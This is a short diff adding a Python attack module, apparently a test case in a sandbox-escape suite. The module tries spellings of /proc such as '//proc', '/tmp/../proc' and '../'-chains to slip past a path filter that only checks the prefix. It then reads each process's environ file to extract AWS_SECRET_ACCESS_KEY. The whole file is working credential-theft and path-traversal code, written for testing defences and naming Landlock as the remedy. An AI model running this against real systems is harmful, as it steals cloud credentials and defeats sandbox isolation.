@@ -1,0 +1,64 @@
+# SPDX-License-Identifier: MIT
+"""Goal:  the worker's credentials, past a filter that compares the beginning of a path.
+Means: names of /proc that do not begin with "/proc". One that works is enough.
+"""
+
+import os
+
+from attack import DONE, attempting, denied, loot
+
+SPELLINGS = (
+    "//proc",
+    "/./proc",
+    "/tmp/../proc",
+    "/sys/../proc",
+    "/usr/../proc",
+    "/dev/../proc",
+    "/../proc",
+    "../" * 16 + "proc",  # from wherever we are: at the root, .. is the root
+)
+
+
+def neighbours(first):
+    """The worker, then every process in /proc but this one."""
+    try:
+        seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
+    except OSError:
+        seen = []
+    return [pid for pid in [first, *seen] if pid not in (0, os.getpid())]
+
+
+def credential(path):
+    """The credential in an environ file, or None."""
+    with open(path, "rb") as file:
+        for entry in file.read().split(b"\0"):
+            if entry.startswith(b"AWS_SECRET_ACCESS_KEY="):
+                return entry
+    return None
+
+
+def run(brief):
+    why = "nobody else in sight"
+    attempting()
+    for pid in neighbours(brief.worker):
+        for proc in SPELLINGS:
+            try:
+                found = credential(f"{proc}/{pid}/environ")
+            except OSError as error:
+                why = error
+                continue
+            if found:
+                loot(found)
+                return DONE
+    return denied("every spelling of /proc", why)
+
+
+ATTACK = {
+    "effect": "the worker's environment is read through /proc",
+    "means": "//proc, /./proc, /tmp/../proc, ../../proc: names that do not begin with /proc",
+    "oracle": "secret:environ",
+    "id": "PROC-02",
+    "attack_id": "T1057, T1003.007, CWE-22",
+    "remedy": "Landlock without /proc, which judges the file and not its name",
+    "run": run,
+}
